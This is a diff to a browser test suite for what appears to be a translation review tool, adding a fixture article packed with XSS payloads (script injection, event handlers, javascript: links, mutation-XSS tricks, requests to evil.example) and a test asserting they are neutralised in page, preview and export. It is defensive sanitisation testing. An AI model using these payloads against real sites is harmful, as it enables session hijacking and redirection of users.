@@ -15,6 +15,8 @@ import pytest
 from review.review_browser import enter, focused, open_article, unit_of, until
 from review.review_project import ENGLISH, OTHER_EN, Project, make_every_state
 from taiyaku.model import State
+from taiyaku.review.export import exported
+from taiyaku.segment import segment_markdown
 
 IMAGES = Path(__file__).parents[2] / "docs" / "images"
 
@@ -171,6 +173,84 @@ def test_nothing_reaches_beyond_the_edge_of_the_screen(
     assert langs == ["ja", "en"]
 
 
+HOSTILE = """\
+---
+title: "<script>document.title='pwned'</script><img src=x onerror=alert(1)>"
+---
+
+# 題 <script>alert(1)</script><img src=x onerror="document.title='pwned'">
+
+<script>document.title = 'pwned'; alert(2)</script>
+
+<meta http-equiv="refresh" content="0; url=http://evil.example/">
+<base href="http://evil.example/">
+<link rel="stylesheet" href="http://evil.example/x.css">
+<style>@import url(http://evil.example/y.css); * { background: url(http://evil.example/z.png) !important }</style>
+
+<iframe src="http://evil.example/"></iframe><object data="http://evil.example/o"></object><embed src="http://evil.example/e">
+
+<svg onload="document.title='pwned'"><a xlink:href="javascript:alert(3)"><text>絵</text></a><foreignObject><img src=x onerror=alert(4)></foreignObject></svg>
+
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(5)&gt;">
+
+<form action="http://evil.example/f"><input name="q" autofocus onfocus="document.title='pwned'"><button>送る</button></form>
+
+<div style="background: url(http://evil.example/s.png); position: fixed; inset: 0">文</div>
+
+<details open ontoggle="document.title='pwned'"><summary>要約</summary>文</details>
+
+[押す](javascript:document.title='pwned') [押す](data:text/html,<script>alert(6)</script>) [押す](vbscript:x)
+<a href="jav&#x09;ascript:document.title='pwned'">押す</a> <a href="/a/x/publish" ping="http://evil.example/p">押す</a>
+
+![絵](http://evil.example/pixel.png) <video src="http://evil.example/v" poster="http://evil.example/w"></video>
+<img srcset="http://evil.example/i 1x"> <input type=image src=http://evil.example/j>
+
+<noscript><p title="</noscript><img src=x onerror=alert(7)>">文</noscript>
+<template><script>alert(8)</script></template><textarea></textarea><img src=x onerror=alert(9)></textarea>
+<a id="units" name="units">文</a><b id="said" data-do="accept" hx-get="http://evil.example/h" hx-trigger="load">文</b>
+"""
+
+
+@pytest.mark.parametrize("where", ["page", "preview", "export"])
+def test_a_hostile_article_shows_its_text_and_does_nothing(
+    browser: Any, base: str, project: Project, complaints: list[str], tmp_path: Path, where: str
+) -> None:
+    project.write("worlds", HOSTILE)
+    document = segment_markdown(HOSTILE)
+    for unit in document.units:  # a translation may hold what its source does
+        project.translate(
+            "worlds", {unit.source[:12]: unit.source + '<img src="http://evil.example/t" onerror=alert(0)>'}
+        )
+    page = enter(browser, base, complaints)
+    page.on("dialog", lambda shown: complaints.append(f"dialog: {shown.message}"))
+    open_article(page)
+    if where == "preview":
+        page.keyboard.press("Alt+v")
+        page.wait_for_selector(".side")
+    elif where == "export":
+        desk = project.desk()
+        key = next(key for key, article in desk.articles().items() if article.name == "worlds")
+        (tmp_path / "sent.html").write_text(exported(desk, key), "utf-8")
+        page = page.context.new_page()
+        page.on("request", lambda asked: None if asked.url.startswith("file:") else complaints.append(asked.url))
+        page.on("console", lambda said: complaints.append(said.text))
+        page.goto((tmp_path / "sent.html").as_uri())
+    page.wait_for_timeout(600)
+    inside = ".side" if where == "preview" else "main"
+    assert "文" in page.inner_text(inside) or page.locator("textarea").count() > 0
+    bad = "script, iframe, object, embed, svg:not(.bar), math, form:not([method=dialog]), base, meta[http-equiv=refresh], img, video, input"
+    for link in page.locator(f"{inside} a[href]").all():
+        assert (link.get_attribute("href") or "").startswith(("http", "mailto:", "#")), link.get_attribute("href")
+    assert page.evaluate(f"document.querySelectorAll('body :is({bad})').length") == 0
+    assert page.title() != "pwned"
+    assert (
+        page.evaluate(
+            "[...document.querySelectorAll('*')].flatMap((n) => [...n.attributes]).filter((a) => /^on|^style$|^ping$/.test(a.name)).length"
+        )
+        == 0
+    )
+
+
 def test_an_article_can_be_read_without_javascript(browser: Any, base: str) -> None:
     page = browser.new_context(java_script_enabled=False).new_page()
     page.goto(f"{base}/?token=open-sesame")
@@ -197,6 +277,35 @@ def test_three_thousand_units_open_quickly_and_the_last_can_be_worked_on(
     last = page.locator('.unit[data-source^="段落2999"]')
     last.locator("textarea").fill("Paragraph 2999 has `code2999` and a world model.")
     until(lambda: project.article("long").catalog.exists(), "not saved")
+
+
+def test_the_filters_know_the_units_that_are_not_loaded_and_load_only_what_they_show(
+    browser: Any, base: str, project: Project, complaints: list[str]
+) -> None:
+    project.write("long", "\n\n".join(f"段落{i}に{i}本ある。" for i in range(400)) + "\n")
+    project.translate("long", {f"段落{i}に": f"There are {i} in paragraph {i}." for i in range(400)})
+    project.translate("long", {"段落333に": "There are 3 in paragraph 333."}, State.DRAFT, "deepl")
+    page = open_article(enter(browser, base, complaints), "long")
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url) if "/units?" in request.url else None)
+    focused(page, "段落0に") if page.locator('.unit[data-source^="段落0に"]').count() else None
+    until(lambda: page.wait_for_timeout(50) or page.inner_text("#found") == "1", "findings are not counted")
+    assert page.inner_text("#open") == "1"
+    for which in ("found", "open"):
+        page.locator(f"button[data-filter={which}]").first.click()
+        page.wait_for_timeout(400)
+        shown = page.locator(".unit:visible")
+        texts = [unit.get_attribute("data-source") for unit in shown.all()]
+        assert "段落333に333本ある。" in texts
+        assert len(texts) <= 2  # and the one that is open
+    assert len(asked) <= 4
+    unit = focused(page, "段落333に")
+    page.keyboard.press("Control+a")
+    page.keyboard.type("There are 333 in paragraph 333.")
+    until(lambda: page.wait_for_timeout(50) or page.inner_text("#found") == "", "the count does not follow")
+    page.keyboard.press("Control+Enter")
+    until(lambda: page.wait_for_timeout(50) or page.inner_text("#open") == "0", "not accepted")
+    del unit
 
 
 def test_the_pictures_of_the_manual(browser: Any, base: str, project: Project, complaints: list[str]) -> None:
